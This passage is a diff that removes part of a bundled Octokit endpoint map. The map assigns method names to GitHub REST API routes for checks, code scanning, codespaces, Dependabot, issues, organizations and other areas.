-        getSharedStorageBillingOrg: [
-          "GET /orgs/{org}/settings/billing/shared-storage"
-        ],
-        getSharedStorageBillingUser: [
-          "GET /users/{username}/settings/billing/shared-storage"
-        ]
-      },
-      checks: {
-        create: ["POST /repos/{owner}/{repo}/check-runs"],
-        createSuite: ["POST /repos/{owner}/{repo}/check-suites"],
-        get: ["GET /repos/{owner}/{repo}/check-runs/{check_run_id}"],
-        getSuite: ["GET /repos/{owner}/{repo}/check-suites/{check_suite_id}"],
-        listAnnotations: [
-          "GET /repos/{owner}/{repo}/check-runs/{check_run_id}/annotations"
-        ],
-        listForRef: ["GET /repos/{owner}/{repo}/commits/{ref}/check-runs"],
-        listForSuite: [
-          "GET /repos/{owner}/{repo}/check-suites/{check_suite_id}/check-runs"
-        ],
-        listSuitesForRef: ["GET /repos/{owner}/{repo}/commits/{ref}/check-suites"],
-        rerequestRun: [
-          "POST /repos/{owner}/{repo}/check-runs/{check_run_id}/rerequest"
-        ],
-        rerequestSuite: [
-          "POST /repos/{owner}/{repo}/check-suites/{check_suite_id}/rerequest"
-        ],
-        setSuitesPreferences: [
-          "PATCH /repos/{owner}/{repo}/check-suites/preferences"
-        ],
-        update: ["PATCH /repos/{owner}/{repo}/check-runs/{check_run_id}"]
-      },
-      codeScanning: {
-        commitAutofix: [
-          "POST /repos/{owner}/{repo}/code-scanning/alerts/{alert_number}/autofix/commits"
-        ],
-        createAutofix: [
-          "POST /repos/{owner}/{repo}/code-scanning/alerts/{alert_number}/autofix"
-        ],
-        createVariantAnalysis: [
-          "POST /repos/{owner}/{repo}/code-scanning/codeql/variant-analyses"
-        ],
-        deleteAnalysis: [
-          "DELETE /repos/{owner}/{repo}/code-scanning/analyses/{analysis_id}{?confirm_delete}"
-        ],
-        deleteCodeqlDatabase: [
-          "DELETE /repos/{owner}/{repo}/code-scanning/codeql/databases/{language}"
-        ],
-        getAlert: [
-          "GET /repos/{owner}/{repo}/code-scanning/alerts/{alert_number}",
-          {},
-          { renamedParameters: { alert_id: "alert_number" } }
-        ],
-        getAnalysis: [
-          "GET /repos/{owner}/{repo}/code-scanning/analyses/{analysis_id}"
-        ],
-        getAutofix: [
-          "GET /repos/{owner}/{repo}/code-scanning/alerts/{alert_number}/autofix"
-        ],
-        getCodeqlDatabase: [
-          "GET /repos/{owner}/{repo}/code-scanning/codeql/databases/{language}"
-        ],
-        getDefaultSetup: ["GET /repos/{owner}/{repo}/code-scanning/default-setup"],
-        getSarif: ["GET /repos/{owner}/{repo}/code-scanning/sarifs/{sarif_id}"],
-        getVariantAnalysis: [
-          "GET /repos/{owner}/{repo}/code-scanning/codeql/variant-analyses/{codeql_variant_analysis_id}"
-        ],
-        getVariantAnalysisRepoTask: [
-          "GET /repos/{owner}/{repo}/code-scanning/codeql/variant-analyses/{codeql_variant_analysis_id}/repos/{repo_owner}/{repo_name}"
-        ],
-        listAlertInstances: [
-          "GET /repos/{owner}/{repo}/code-scanning/alerts/{alert_number}/instances"
-        ],
-        listAlertsForOrg: ["GET /orgs/{org}/code-scanning/alerts"],
-        listAlertsForRepo: ["GET /repos/{owner}/{repo}/code-scanning/alerts"],
-        listAlertsInstances: [
-          "GET /repos/{owner}/{repo}/code-scanning/alerts/{alert_number}/instances",
-          {},
-          { renamed: ["codeScanning", "listAlertInstances"] }
-        ],
-        listCodeqlDatabases: [
-          "GET /repos/{owner}/{repo}/code-scanning/codeql/databases"
-        ],
-        listRecentAnalyses: ["GET /repos/{owner}/{repo}/code-scanning/analyses"],
-        updateAlert: [
-          "PATCH /repos/{owner}/{repo}/code-scanning/alerts/{alert_number}"
-        ],
-        updateDefaultSetup: [
-          "PATCH /repos/{owner}/{repo}/code-scanning/default-setup"
-        ],
-        uploadSarif: ["POST /repos/{owner}/{repo}/code-scanning/sarifs"]
-      },
-      codeSecurity: {
-        attachConfiguration: [
-          "POST /orgs/{org}/code-security/configurations/{configuration_id}/attach"
-        ],
-        attachEnterpriseConfiguration: [
-          "POST /enterprises/{enterprise}/code-security/configurations/{configuration_id}/attach"
-        ],
-        createConfiguration: ["POST /orgs/{org}/code-security/configurations"],
-        createConfigurationForEnterprise: [
-          "POST /enterprises/{enterprise}/code-security/configurations"
-        ],
-        deleteConfiguration: [
-          "DELETE /orgs/{org}/code-security/configurations/{configuration_id}"
-        ],
-        deleteConfigurationForEnterprise: [
-          "DELETE /enterprises/{enterprise}/code-security/configurations/{configuration_id}"
-        ],
-        detachConfiguration: [
-          "DELETE /orgs/{org}/code-security/configurations/detach"
-        ],
-        getConfiguration: [
-          "GET /orgs/{org}/code-security/configurations/{configuration_id}"
-        ],
-        getConfigurationForRepository: [
-          "GET /repos/{owner}/{repo}/code-security-configuration"
-        ],
-        getConfigurationsForEnterprise: [
-          "GET /enterprises/{enterprise}/code-security/configurations"
-        ],
-        getConfigurationsForOrg: ["GET /orgs/{org}/code-security/configurations"],
-        getDefaultConfigurations: [
-          "GET /orgs/{org}/code-security/configurations/defaults"
-        ],
-        getDefaultConfigurationsForEnterprise: [
-          "GET /enterprises/{enterprise}/code-security/configurations/defaults"
-        ],
-        getRepositoriesForConfiguration: [
-          "GET /orgs/{org}/code-security/configurations/{configuration_id}/repositories"
-        ],
-        getRepositoriesForEnterpriseConfiguration: [
-          "GET /enterprises/{enterprise}/code-security/configurations/{configuration_id}/repositories"
-        ],
-        getSingleConfigurationForEnterprise: [
-          "GET /enterprises/{enterprise}/code-security/configurations/{configuration_id}"
-        ],
-        setConfigurationAsDefault: [
-          "PUT /orgs/{org}/code-security/configurations/{configuration_id}/defaults"
-        ],
-        setConfigurationAsDefaultForEnterprise: [
-          "PUT /enterprises/{enterprise}/code-security/configurations/{configuration_id}/defaults"
-        ],
-        updateConfiguration: [
-          "PATCH /orgs/{org}/code-security/configurations/{configuration_id}"
-        ],
-        updateEnterpriseConfiguration: [
-          "PATCH /enterprises/{enterprise}/code-security/configurations/{configuration_id}"
-        ]
-      },
-      codesOfConduct: {
-        getAllCodesOfConduct: ["GET /codes_of_conduct"],
-        getConductCode: ["GET /codes_of_conduct/{key}"]
-      },
-      codespaces: {
-        addRepositoryForSecretForAuthenticatedUser: [
-          "PUT /user/codespaces/secrets/{secret_name}/repositories/{repository_id}"
-        ],
-        addSelectedRepoToOrgSecret: [
-          "PUT /orgs/{org}/codespaces/secrets/{secret_name}/repositories/{repository_id}"
-        ],
-        checkPermissionsForDevcontainer: [
-          "GET /repos/{owner}/{repo}/codespaces/permissions_check"
-        ],
-        codespaceMachinesForAuthenticatedUser: [
-          "GET /user/codespaces/{codespace_name}/machines"
-        ],
-        createForAuthenticatedUser: ["POST /user/codespaces"],
-        createOrUpdateOrgSecret: [
-          "PUT /orgs/{org}/codespaces/secrets/{secret_name}"
-        ],
-        createOrUpdateRepoSecret: [
-          "PUT /repos/{owner}/{repo}/codespaces/secrets/{secret_name}"
-        ],
-        createOrUpdateSecretForAuthenticatedUser: [
-          "PUT /user/codespaces/secrets/{secret_name}"
-        ],
-        createWithPrForAuthenticatedUser: [
-          "POST /repos/{owner}/{repo}/pulls/{pull_number}/codespaces"
-        ],
-        createWithRepoForAuthenticatedUser: [
-          "POST /repos/{owner}/{repo}/codespaces"
-        ],
-        deleteForAuthenticatedUser: ["DELETE /user/codespaces/{codespace_name}"],
-        deleteFromOrganization: [
-          "DELETE /orgs/{org}/members/{username}/codespaces/{codespace_name}"
-        ],
-        deleteOrgSecret: ["DELETE /orgs/{org}/codespaces/secrets/{secret_name}"],
-        deleteRepoSecret: [
-          "DELETE /repos/{owner}/{repo}/codespaces/secrets/{secret_name}"
-        ],
-        deleteSecretForAuthenticatedUser: [
-          "DELETE /user/codespaces/secrets/{secret_name}"
-        ],
-        exportForAuthenticatedUser: [
-          "POST /user/codespaces/{codespace_name}/exports"
-        ],
-        getCodespacesForUserInOrg: [
-          "GET /orgs/{org}/members/{username}/codespaces"
-        ],
-        getExportDetailsForAuthenticatedUser: [
-          "GET /user/codespaces/{codespace_name}/exports/{export_id}"
-        ],
-        getForAuthenticatedUser: ["GET /user/codespaces/{codespace_name}"],
-        getOrgPublicKey: ["GET /orgs/{org}/codespaces/secrets/public-key"],
-        getOrgSecret: ["GET /orgs/{org}/codespaces/secrets/{secret_name}"],
-        getPublicKeyForAuthenticatedUser: [
-          "GET /user/codespaces/secrets/public-key"
-        ],
-        getRepoPublicKey: [
-          "GET /repos/{owner}/{repo}/codespaces/secrets/public-key"
-        ],
-        getRepoSecret: [
-          "GET /repos/{owner}/{repo}/codespaces/secrets/{secret_name}"
-        ],
-        getSecretForAuthenticatedUser: [
-          "GET /user/codespaces/secrets/{secret_name}"
-        ],
-        listDevcontainersInRepositoryForAuthenticatedUser: [
-          "GET /repos/{owner}/{repo}/codespaces/devcontainers"
-        ],
-        listForAuthenticatedUser: ["GET /user/codespaces"],
-        listInOrganization: [
-          "GET /orgs/{org}/codespaces",
-          {},
-          { renamedParameters: { org_id: "org" } }
-        ],
-        listInRepositoryForAuthenticatedUser: [
-          "GET /repos/{owner}/{repo}/codespaces"
-        ],
-        listOrgSecrets: ["GET /orgs/{org}/codespaces/secrets"],
-        listRepoSecrets: ["GET /repos/{owner}/{repo}/codespaces/secrets"],
-        listRepositoriesForSecretForAuthenticatedUser: [
-          "GET /user/codespaces/secrets/{secret_name}/repositories"
-        ],
-        listSecretsForAuthenticatedUser: ["GET /user/codespaces/secrets"],
-        listSelectedReposForOrgSecret: [
-          "GET /orgs/{org}/codespaces/secrets/{secret_name}/repositories"
-        ],
-        preFlightWithRepoForAuthenticatedUser: [
-          "GET /repos/{owner}/{repo}/codespaces/new"
-        ],
-        publishForAuthenticatedUser: [
-          "POST /user/codespaces/{codespace_name}/publish"
-        ],
-        removeRepositoryForSecretForAuthenticatedUser: [
-          "DELETE /user/codespaces/secrets/{secret_name}/repositories/{repository_id}"
-        ],
-        removeSelectedRepoFromOrgSecret: [
-          "DELETE /orgs/{org}/codespaces/secrets/{secret_name}/repositories/{repository_id}"
-        ],
-        repoMachinesForAuthenticatedUser: [
-          "GET /repos/{owner}/{repo}/codespaces/machines"
-        ],
-        setRepositoriesForSecretForAuthenticatedUser: [
-          "PUT /user/codespaces/secrets/{secret_name}/repositories"
-        ],
-        setSelectedReposForOrgSecret: [
-          "PUT /orgs/{org}/codespaces/secrets/{secret_name}/repositories"
-        ],
-        startForAuthenticatedUser: ["POST /user/codespaces/{codespace_name}/start"],
-        stopForAuthenticatedUser: ["POST /user/codespaces/{codespace_name}/stop"],
-        stopInOrganization: [
-          "POST /orgs/{org}/members/{username}/codespaces/{codespace_name}/stop"
-        ],
-        updateForAuthenticatedUser: ["PATCH /user/codespaces/{codespace_name}"]
-      },
-      copilot: {
-        addCopilotSeatsForTeams: [
-          "POST /orgs/{org}/copilot/billing/selected_teams"
-        ],
-        addCopilotSeatsForUsers: [
-          "POST /orgs/{org}/copilot/billing/selected_users"
-        ],
-        cancelCopilotSeatAssignmentForTeams: [
-          "DELETE /orgs/{org}/copilot/billing/selected_teams"
-        ],
-        cancelCopilotSeatAssignmentForUsers: [
-          "DELETE /orgs/{org}/copilot/billing/selected_users"
-        ],
-        copilotMetricsForOrganization: ["GET /orgs/{org}/copilot/metrics"],
-        copilotMetricsForTeam: ["GET /orgs/{org}/team/{team_slug}/copilot/metrics"],
-        getCopilotOrganizationDetails: ["GET /orgs/{org}/copilot/billing"],
-        getCopilotSeatDetailsForUser: [
-          "GET /orgs/{org}/members/{username}/copilot"
-        ],
-        listCopilotSeats: ["GET /orgs/{org}/copilot/billing/seats"],
-        usageMetricsForOrg: ["GET /orgs/{org}/copilot/usage"],
-        usageMetricsForTeam: ["GET /orgs/{org}/team/{team_slug}/copilot/usage"]
-      },
-      dependabot: {
-        addSelectedRepoToOrgSecret: [
-          "PUT /orgs/{org}/dependabot/secrets/{secret_name}/repositories/{repository_id}"
-        ],
-        createOrUpdateOrgSecret: [
-          "PUT /orgs/{org}/dependabot/secrets/{secret_name}"
-        ],
-        createOrUpdateRepoSecret: [
-          "PUT /repos/{owner}/{repo}/dependabot/secrets/{secret_name}"
-        ],
-        deleteOrgSecret: ["DELETE /orgs/{org}/dependabot/secrets/{secret_name}"],
-        deleteRepoSecret: [
-          "DELETE /repos/{owner}/{repo}/dependabot/secrets/{secret_name}"
-        ],
-        getAlert: ["GET /repos/{owner}/{repo}/dependabot/alerts/{alert_number}"],
-        getOrgPublicKey: ["GET /orgs/{org}/dependabot/secrets/public-key"],
-        getOrgSecret: ["GET /orgs/{org}/dependabot/secrets/{secret_name}"],
-        getRepoPublicKey: [
-          "GET /repos/{owner}/{repo}/dependabot/secrets/public-key"
-        ],
-        getRepoSecret: [
-          "GET /repos/{owner}/{repo}/dependabot/secrets/{secret_name}"
-        ],
-        listAlertsForEnterprise: [
-          "GET /enterprises/{enterprise}/dependabot/alerts"
-        ],
-        listAlertsForOrg: ["GET /orgs/{org}/dependabot/alerts"],
-        listAlertsForRepo: ["GET /repos/{owner}/{repo}/dependabot/alerts"],
-        listOrgSecrets: ["GET /orgs/{org}/dependabot/secrets"],
-        listRepoSecrets: ["GET /repos/{owner}/{repo}/dependabot/secrets"],
-        listSelectedReposForOrgSecret: [
-          "GET /orgs/{org}/dependabot/secrets/{secret_name}/repositories"
-        ],
-        removeSelectedRepoFromOrgSecret: [
-          "DELETE /orgs/{org}/dependabot/secrets/{secret_name}/repositories/{repository_id}"
-        ],
-        setSelectedReposForOrgSecret: [
-          "PUT /orgs/{org}/dependabot/secrets/{secret_name}/repositories"
-        ],
-        updateAlert: [
-          "PATCH /repos/{owner}/{repo}/dependabot/alerts/{alert_number}"
-        ]
-      },
-      dependencyGraph: {
-        createRepositorySnapshot: [
-          "POST /repos/{owner}/{repo}/dependency-graph/snapshots"
-        ],
-        diffRange: [
-          "GET /repos/{owner}/{repo}/dependency-graph/compare/{basehead}"
-        ],
-        exportSbom: ["GET /repos/{owner}/{repo}/dependency-graph/sbom"]
-      },
-      emojis: { get: ["GET /emojis"] },
-      gists: {
-        checkIsStarred: ["GET /gists/{gist_id}/star"],
-        create: ["POST /gists"],
-        createComment: ["POST /gists/{gist_id}/comments"],
-        delete: ["DELETE /gists/{gist_id}"],
-        deleteComment: ["DELETE /gists/{gist_id}/comments/{comment_id}"],
-        fork: ["POST /gists/{gist_id}/forks"],
-        get: ["GET /gists/{gist_id}"],
-        getComment: ["GET /gists/{gist_id}/comments/{comment_id}"],
-        getRevision: ["GET /gists/{gist_id}/{sha}"],
-        list: ["GET /gists"],
-        listComments: ["GET /gists/{gist_id}/comments"],
-        listCommits: ["GET /gists/{gist_id}/commits"],
-        listForUser: ["GET /users/{username}/gists"],
-        listForks: ["GET /gists/{gist_id}/forks"],
-        listPublic: ["GET /gists/public"],
-        listStarred: ["GET /gists/starred"],
-        star: ["PUT /gists/{gist_id}/star"],
-        unstar: ["DELETE /gists/{gist_id}/star"],
-        update: ["PATCH /gists/{gist_id}"],
-        updateComment: ["PATCH /gists/{gist_id}/comments/{comment_id}"]
-      },
-      git: {
-        createBlob: ["POST /repos/{owner}/{repo}/git/blobs"],
-        createCommit: ["POST /repos/{owner}/{repo}/git/commits"],
-        createRef: ["POST /repos/{owner}/{repo}/git/refs"],
-        createTag: ["POST /repos/{owner}/{repo}/git/tags"],
-        createTree: ["POST /repos/{owner}/{repo}/git/trees"],
-        deleteRef: ["DELETE /repos/{owner}/{repo}/git/refs/{ref}"],
-        getBlob: ["GET /repos/{owner}/{repo}/git/blobs/{file_sha}"],
-        getCommit: ["GET /repos/{owner}/{repo}/git/commits/{commit_sha}"],
-        getRef: ["GET /repos/{owner}/{repo}/git/ref/{ref}"],
-        getTag: ["GET /repos/{owner}/{repo}/git/tags/{tag_sha}"],
-        getTree: ["GET /repos/{owner}/{repo}/git/trees/{tree_sha}"],
-        listMatchingRefs: ["GET /repos/{owner}/{repo}/git/matching-refs/{ref}"],
-        updateRef: ["PATCH /repos/{owner}/{repo}/git/refs/{ref}"]
-      },
-      gitignore: {
-        getAllTemplates: ["GET /gitignore/templates"],
-        getTemplate: ["GET /gitignore/templates/{name}"]
-      },
-      interactions: {
-        getRestrictionsForAuthenticatedUser: ["GET /user/interaction-limits"],
-        getRestrictionsForOrg: ["GET /orgs/{org}/interaction-limits"],
-        getRestrictionsForRepo: ["GET /repos/{owner}/{repo}/interaction-limits"],
-        getRestrictionsForYourPublicRepos: [
-          "GET /user/interaction-limits",
-          {},
-          { renamed: ["interactions", "getRestrictionsForAuthenticatedUser"] }
-        ],
-        removeRestrictionsForAuthenticatedUser: ["DELETE /user/interaction-limits"],
-        removeRestrictionsForOrg: ["DELETE /orgs/{org}/interaction-limits"],
-        removeRestrictionsForRepo: [
-          "DELETE /repos/{owner}/{repo}/interaction-limits"
-        ],
-        removeRestrictionsForYourPublicRepos: [
-          "DELETE /user/interaction-limits",
-          {},
-          { renamed: ["interactions", "removeRestrictionsForAuthenticatedUser"] }
-        ],
-        setRestrictionsForAuthenticatedUser: ["PUT /user/interaction-limits"],
-        setRestrictionsForOrg: ["PUT /orgs/{org}/interaction-limits"],
-        setRestrictionsForRepo: ["PUT /repos/{owner}/{repo}/interaction-limits"],
-        setRestrictionsForYourPublicRepos: [
-          "PUT /user/interaction-limits",
-          {},
-          { renamed: ["interactions", "setRestrictionsForAuthenticatedUser"] }
-        ]
-      },
-      issues: {
-        addAssignees: [
-          "POST /repos/{owner}/{repo}/issues/{issue_number}/assignees"
-        ],
-        addLabels: ["POST /repos/{owner}/{repo}/issues/{issue_number}/labels"],
-        addSubIssue: [
-          "POST /repos/{owner}/{repo}/issues/{issue_number}/sub_issues"
-        ],
-        checkUserCanBeAssigned: ["GET /repos/{owner}/{repo}/assignees/{assignee}"],
-        checkUserCanBeAssignedToIssue: [
-          "GET /repos/{owner}/{repo}/issues/{issue_number}/assignees/{assignee}"
-        ],
-        create: ["POST /repos/{owner}/{repo}/issues"],
-        createComment: [
-          "POST /repos/{owner}/{repo}/issues/{issue_number}/comments"
-        ],
-        createLabel: ["POST /repos/{owner}/{repo}/labels"],
-        createMilestone: ["POST /repos/{owner}/{repo}/milestones"],
-        deleteComment: [
-          "DELETE /repos/{owner}/{repo}/issues/comments/{comment_id}"
-        ],
-        deleteLabel: ["DELETE /repos/{owner}/{repo}/labels/{name}"],
-        deleteMilestone: [
-          "DELETE /repos/{owner}/{repo}/milestones/{milestone_number}"
-        ],
-        get: ["GET /repos/{owner}/{repo}/issues/{issue_number}"],
-        getComment: ["GET /repos/{owner}/{repo}/issues/comments/{comment_id}"],
-        getEvent: ["GET /repos/{owner}/{repo}/issues/events/{event_id}"],
-        getLabel: ["GET /repos/{owner}/{repo}/labels/{name}"],
-        getMilestone: ["GET /repos/{owner}/{repo}/milestones/{milestone_number}"],
-        list: ["GET /issues"],
-        listAssignees: ["GET /repos/{owner}/{repo}/assignees"],
-        listComments: ["GET /repos/{owner}/{repo}/issues/{issue_number}/comments"],
-        listCommentsForRepo: ["GET /repos/{owner}/{repo}/issues/comments"],
-        listEvents: ["GET /repos/{owner}/{repo}/issues/{issue_number}/events"],
-        listEventsForRepo: ["GET /repos/{owner}/{repo}/issues/events"],
-        listEventsForTimeline: [
-          "GET /repos/{owner}/{repo}/issues/{issue_number}/timeline"
-        ],
-        listForAuthenticatedUser: ["GET /user/issues"],
-        listForOrg: ["GET /orgs/{org}/issues"],
-        listForRepo: ["GET /repos/{owner}/{repo}/issues"],
-        listLabelsForMilestone: [
-          "GET /repos/{owner}/{repo}/milestones/{milestone_number}/labels"
-        ],
-        listLabelsForRepo: ["GET /repos/{owner}/{repo}/labels"],
-        listLabelsOnIssue: [
-          "GET /repos/{owner}/{repo}/issues/{issue_number}/labels"
-        ],
-        listMilestones: ["GET /repos/{owner}/{repo}/milestones"],
-        listSubIssues: [
-          "GET /repos/{owner}/{repo}/issues/{issue_number}/sub_issues"
-        ],
-        lock: ["PUT /repos/{owner}/{repo}/issues/{issue_number}/lock"],
-        removeAllLabels: [
-          "DELETE /repos/{owner}/{repo}/issues/{issue_number}/labels"
-        ],
-        removeAssignees: [
-          "DELETE /repos/{owner}/{repo}/issues/{issue_number}/assignees"
-        ],
-        removeLabel: [
-          "DELETE /repos/{owner}/{repo}/issues/{issue_number}/labels/{name}"
-        ],
-        removeSubIssue: [
-          "DELETE /repos/{owner}/{repo}/issues/{issue_number}/sub_issue"
-        ],
-        reprioritizeSubIssue: [
-          "PATCH /repos/{owner}/{repo}/issues/{issue_number}/sub_issues/priority"
-        ],
-        setLabels: ["PUT /repos/{owner}/{repo}/issues/{issue_number}/labels"],
-        unlock: ["DELETE /repos/{owner}/{repo}/issues/{issue_number}/lock"],
-        update: ["PATCH /repos/{owner}/{repo}/issues/{issue_number}"],
-        updateComment: ["PATCH /repos/{owner}/{repo}/issues/comments/{comment_id}"],
-        updateLabel: ["PATCH /repos/{owner}/{repo}/labels/{name}"],
-        updateMilestone: [
-          "PATCH /repos/{owner}/{repo}/milestones/{milestone_number}"
-        ]
-      },
-      licenses: {
-        get: ["GET /licenses/{license}"],
-        getAllCommonlyUsed: ["GET /licenses"],
-        getForRepo: ["GET /repos/{owner}/{repo}/license"]
-      },
-      markdown: {
-        render: ["POST /markdown"],
-        renderRaw: [
-          "POST /markdown/raw",
-          { headers: { "content-type": "text/plain; charset=utf-8" } }
-        ]
-      },
-      meta: {
-        get: ["GET /meta"],
-        getAllVersions: ["GET /versions"],
-        getOctocat: ["GET /octocat"],
-        getZen: ["GET /zen"],
-        root: ["GET /"]
-      },
-      migrations: {
-        deleteArchiveForAuthenticatedUser: [
-          "DELETE /user/migrations/{migration_id}/archive"
-        ],
-        deleteArchiveForOrg: [
-          "DELETE /orgs/{org}/migrations/{migration_id}/archive"
-        ],
-        downloadArchiveForOrg: [
-          "GET /orgs/{org}/migrations/{migration_id}/archive"
-        ],
-        getArchiveForAuthenticatedUser: [
-          "GET /user/migrations/{migration_id}/archive"
-        ],
-        getStatusForAuthenticatedUser: ["GET /user/migrations/{migration_id}"],
-        getStatusForOrg: ["GET /orgs/{org}/migrations/{migration_id}"],
-        listForAuthenticatedUser: ["GET /user/migrations"],
-        listForOrg: ["GET /orgs/{org}/migrations"],
-        listReposForAuthenticatedUser: [
-          "GET /user/migrations/{migration_id}/repositories"
-        ],
-        listReposForOrg: ["GET /orgs/{org}/migrations/{migration_id}/repositories"],
-        listReposForUser: [
-          "GET /user/migrations/{migration_id}/repositories",
-          {},
-          { renamed: ["migrations", "listReposForAuthenticatedUser"] }
-        ],
-        startForAuthenticatedUser: ["POST /user/migrations"],
-        startForOrg: ["POST /orgs/{org}/migrations"],
-        unlockRepoForAuthenticatedUser: [
-          "DELETE /user/migrations/{migration_id}/repos/{repo_name}/lock"
-        ],
-        unlockRepoForOrg: [
-          "DELETE /orgs/{org}/migrations/{migration_id}/repos/{repo_name}/lock"
-        ]
-      },
-      oidc: {
-        getOidcCustomSubTemplateForOrg: [
-          "GET /orgs/{org}/actions/oidc/customization/sub"
-        ],
-        updateOidcCustomSubTemplateForOrg: [
-          "PUT /orgs/{org}/actions/oidc/customization/sub"
-        ]
-      },
-      orgs: {
-        addSecurityManagerTeam: [
-          "PUT /orgs/{org}/security-managers/teams/{team_slug}",
-          {},
-          {
-            deprecated: "octokit.rest.orgs.addSecurityManagerTeam() is deprecated, see https://docs.github.com/rest/orgs/security-managers#add-a-security-manager-team"
-          }
-        ],
-        assignTeamToOrgRole: [
-          "PUT /orgs/{org}/organization-roles/teams/{team_slug}/{role_id}"
-        ],
-        assignUserToOrgRole: [
-          "PUT /orgs/{org}/organization-roles/users/{username}/{role_id}"
-        ],
-        blockUser: ["PUT /orgs/{org}/blocks/{username}"],
-        cancelInvitation: ["DELETE /orgs/{org}/invitations/{invitation_id}"],
-        checkBlockedUser: ["GET /orgs/{org}/blocks/{username}"],
-        checkMembershipForUser: ["GET /orgs/{org}/members/{username}"],
-        checkPublicMembershipForUser: ["GET /orgs/{org}/public_members/{username}"],
-        convertMemberToOutsideCollaborator: [
-          "PUT /orgs/{org}/outside_collaborators/{username}"
-        ],
-        createInvitation: ["POST /orgs/{org}/invitations"],
-        createOrUpdateCustomProperties: ["PATCH /orgs/{org}/properties/schema"],
-        createOrUpdateCustomPropertiesValuesForRepos: [
-          "PATCH /orgs/{org}/properties/values"
-        ],
-        createOrUpdateCustomProperty: [
-          "PUT /orgs/{org}/properties/schema/{custom_property_name}"
-        ],
-        createWebhook: ["POST /orgs/{org}/hooks"],
-        delete: ["DELETE /orgs/{org}"],
-        deleteWebhook: ["DELETE /orgs/{org}/hooks/{hook_id}"],
-        enableOrDisableSecurityProductOnAllOrgRepos: [
-          "POST /orgs/{org}/{security_product}/{enablement}",
-          {},
-          {
-            deprecated: "octokit.rest.orgs.enableOrDisableSecurityProductOnAllOrgRepos() is deprecated, see https://docs.github.com/rest/orgs/orgs#enable-or-disable-a-security-feature-for-an-organization"
-          }
-        ],
-        get: ["GET /orgs/{org}"],
-        getAllCustomProperties: ["GET /orgs/{org}/properties/schema"],
-        getCustomProperty: [
-          "GET /orgs/{org}/properties/schema/{custom_property_name}"
-        ],
-        getMembershipForAuthenticatedUser: ["GET /user/memberships/orgs/{org}"],
-        getMembershipForUser: ["GET /orgs/{org}/memberships/{username}"],
-        getOrgRole: ["GET /orgs/{org}/organization-roles/{role_id}"],
-        getWebhook: ["GET /orgs/{org}/hooks/{hook_id}"],
-        getWebhookConfigForOrg: ["GET /orgs/{org}/hooks/{hook_id}/config"],
-        getWebhookDelivery: [
-          "GET /orgs/{org}/hooks/{hook_id}/deliveries/{delivery_id}"
-        ],
-        list: ["GET /organizations"],
-        listAppInstallations: ["GET /orgs/{org}/installations"],
-        listAttestations: ["GET /orgs/{org}/attestations/{subject_digest}"],
-        listBlockedUsers: ["GET /orgs/{org}/blocks"],
-        listCustomPropertiesValuesForRepos: ["GET /orgs/{org}/properties/values"],
-        listFailedInvitations: ["GET /orgs/{org}/failed_invitations"],
-        listForAuthenticatedUser: ["GET /user/orgs"],
-        listForUser: ["GET /users/{username}/orgs"],
-        listInvitationTeams: ["GET /orgs/{org}/invitations/{invitation_id}/teams"],
-        listMembers: ["GET /orgs/{org}/members"],
-        listMembershipsForAuthenticatedUser: ["GET /user/memberships/orgs"],
-        listOrgRoleTeams: ["GET /orgs/{org}/organization-roles/{role_id}/teams"],
-        listOrgRoleUsers: ["GET /orgs/{org}/organization-roles/{role_id}/users"],
-        listOrgRoles: ["GET /orgs/{org}/organization-roles"],
-        listOrganizationFineGrainedPermissions: [
-          "GET /orgs/{org}/organization-fine-grained-permissions"
-        ],
-        listOutsideCollaborators: ["GET /orgs/{org}/outside_collaborators"],
-        listPatGrantRepositories: [
-          "GET /orgs/{org}/personal-access-tokens/{pat_id}/repositories"
-        ],
-        listPatGrantRequestRepositories: [
-          "GET /orgs/{org}/personal-access-token-requests/{pat_request_id}/repositories"
-        ],
-        listPatGrantRequests: ["GET /orgs/{org}/personal-access-token-requests"],
-        listPatGrants: ["GET /orgs/{org}/personal-access-tokens"],
-        listPendingInvitations: ["GET /orgs/{org}/invitations"],
-        listPublicMembers: ["GET /orgs/{org}/public_members"],
-        listSecurityManagerTeams: [
-          "GET /orgs/{org}/security-managers",
-          {},
-          {
-            deprecated: "octokit.rest.orgs.listSecurityManagerTeams() is deprecated, see https://docs.github.com/rest/orgs/security-managers#list-security-manager-teams"
-          }
-        ],
-        listWebhookDeliveries: ["GET /orgs/{org}/hooks/{hook_id}/deliveries"],
-        listWebhooks: ["GET /orgs/{org}/hooks"],
-        pingWebhook: ["POST /orgs/{org}/hooks/{hook_id}/pings"],
-        redeliverWebhookDelivery: [
-          "POST /orgs/{org}/hooks/{hook_id}/deliveries/{delivery_id}/attempts"
-        ],
-        removeCustomProperty: [
-          "DELETE /orgs/{org}/properties/schema/{custom_property_name}"
-        ],
-        removeMember: ["DELETE /orgs/{org}/members/{username}"],
-        removeMembershipForUser: ["DELETE /orgs/{org}/memberships/{username}"],
-        removeOutsideCollaborator: [
-          "DELETE /orgs/{org}/outside_collaborators/{username}"
-        ],
-        removePublicMembershipForAuthenticatedUser: [
-          "DELETE /orgs/{org}/public_members/{username}"
-        ],
-        removeSecurityManagerTeam: [
-          "DELETE /orgs/{org}/security-managers/teams/{team_slug}",
-          {},
-          {
-            deprecated: "octokit.rest.orgs.removeSecurityManagerTeam() is deprecated, see https://docs.github.com/rest/orgs/security-managers#remove-a-security-manager-team"
-          }
-        ],
-        reviewPatGrantRequest: [
-          "POST /orgs/{org}/personal-access-token-requests/{pat_request_id}"
-        ],
-        reviewPatGrantRequestsInBulk: [
-          "POST /orgs/{org}/personal-access-token-requests"
-        ],
-        revokeAllOrgRolesTeam: [
-          "DELETE /orgs/{org}/organization-roles/teams/{team_slug}"
-        ],
-        revokeAllOrgRolesUser: [
-          "DELETE /orgs/{org}/organization-roles/users/{username}"
-        ],
-        revokeOrgRoleTeam: [
-          "DELETE /orgs/{org}/organization-roles/teams/{team_slug}/{role_id}"
-        ],
-        revokeOrgRoleUser: [
-          "DELETE /orgs/{org}/organization-roles/users/{username}/{role_id}"
-        ],
-        setMembershipForUser: ["PUT /orgs/{org}/memberships/{username}"],
-        setPublicMembershipForAuthenticatedUser: [
-          "PUT /orgs/{org}/public_members/{username}"
-        ],
-        unblockUser: ["DELETE /orgs/{org}/blocks/{username}"],
-        update: ["PATCH /orgs/{org}"],
-        updateMembershipForAuthenticatedUser: [
-          "PATCH /user/memberships/orgs/{org}"
-        ],
-        updatePatAccess: ["POST /orgs/{org}/personal-access-tokens/{pat_id}"],
-        updatePatAccesses: ["POST /orgs/{org}/personal-access-tokens"],
-        updateWebhook: ["PATCH /orgs/{org}/hooks/{hook_id}"],
